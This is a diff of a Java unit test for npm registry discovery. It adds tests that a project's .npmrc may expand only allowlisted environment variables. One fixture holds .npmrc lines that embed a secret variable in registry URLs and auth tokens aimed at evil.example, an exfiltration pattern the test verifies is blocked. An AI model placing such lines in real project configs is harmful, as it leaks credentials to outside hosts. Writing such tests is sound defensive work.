@@ -9,6 +9,7 @@ import dev.hermetic.core.SafeUri;
 import java.io.IOException;
 import java.nio.file.Files;
 import java.nio.file.Path;
+import java.util.ArrayList;
 import java.util.HashMap;
 import java.util.List;
 import java.util.Map;
@@ -21,6 +22,8 @@ import org.junit.jupiter.api.io.TempDir;
 final class NpmRegistryDiscoveryTest {
   private @TempDir Path directory;
   private final Map<String, String> variables = new HashMap<>();
+  private final List<String> allowed = new ArrayList<>();
+  private final List<String> refused = new ArrayList<>();
   private Optional<String> installed = Optional.of("https://installed.example/");
 
   @BeforeEach
@@ -61,10 +64,51 @@ final class NpmRegistryDiscoveryTest {
   }
 
   @Test
-  void expandsVariablesOfTheEnvironment() throws IOException {
+  void expandsAllowedVariablesInTheProjectsFiles() throws IOException {
     variables.put("REGISTRY_HOST", "v.example");
+    allowed.add("REGISTRY_HOST");
     write("project/.npmrc", "registry=https://${REGISTRY_HOST}/${MISSING?}\n");
     assertThat(registries()).containsEntry("npm", "https://v.example/");
+  }
+
+  @Test
+  void takesAllowedVariablesFromTheEnvironmentToo() throws IOException {
+    variables.put("REGISTRY_HOST", "v.example");
+    variables.put("HERMETIC_ALLOW_VARIABLES", "OTHER, REGISTRY_HOST");
+    write("project/.npmrc", "registry=https://${REGISTRY_HOST}/\n");
+    assertThat(registries()).containsEntry("npm", "https://v.example/");
+  }
+
+  @Test
+  void givesAProjectNoVariableThatNobodyAllowed() throws IOException {
+    variables.put("CLOUD_SECRET", "5c1d6e0e");
+    allowed.add("NPM_TOKEN");
+    write(
+        "project/.npmrc",
+        """
+        registry=https://evil.example/${CLOUD_SECRET}/
+        @s:registry=https://${CLOUD_SECRET}.evil.example/
+        //evil.example/:_authToken=${CLOUD_SECRET}
+        //${CLOUD_SECRET}.example/:_authToken=x
+        """);
+    assertThat(registries()).containsExactly(Map.entry("npm", "https://installed.example/"));
+    assertThat(authorization("https://evil.example/x")).isEmpty();
+    assertThat(refused).containsOnly("CLOUD_SECRET");
+  }
+
+  @Test
+  void asksForNoVariableOfSettingsThatDoNotMatterHere() throws IOException {
+    variables.put("CLOUD_SECRET", "5c1d6e0e");
+    write("project/.npmrc", "prefix=${CLOUD_SECRET}\n; registry=${CLOUD_SECRET}\n");
+    registries();
+    assertThat(refused).isEmpty();
+  }
+
+  @Test
+  void expandsEveryVariableInTheUsersOwnFile() throws IOException {
+    variables.put("NPM_TOKEN", "T");
+    write("home/.npmrc", "//a.example/:_authToken=${NPM_TOKEN}\n");
+    assertThat(authorization("https://a.example/x")).contains("Bearer T");
   }
 
   @Test
@@ -147,7 +191,8 @@ final class NpmRegistryDiscoveryTest {
 
   private NpmRegistryDiscovery.Discovered discover(boolean askNpm) {
     Surroundings surroundings = CommandRun.surroundings(directory, variables);
-    return new NpmRegistryDiscovery(surroundings, () -> installed)
+    ProjectVariables ofProject = new ProjectVariables(surroundings, allowed, refused::add);
+    return new NpmRegistryDiscovery(surroundings, ofProject, () -> installed)
         .discover(directory.resolve("project"), List.of(PackageInput.of("npm", "ui")), askNpm);
   }
 
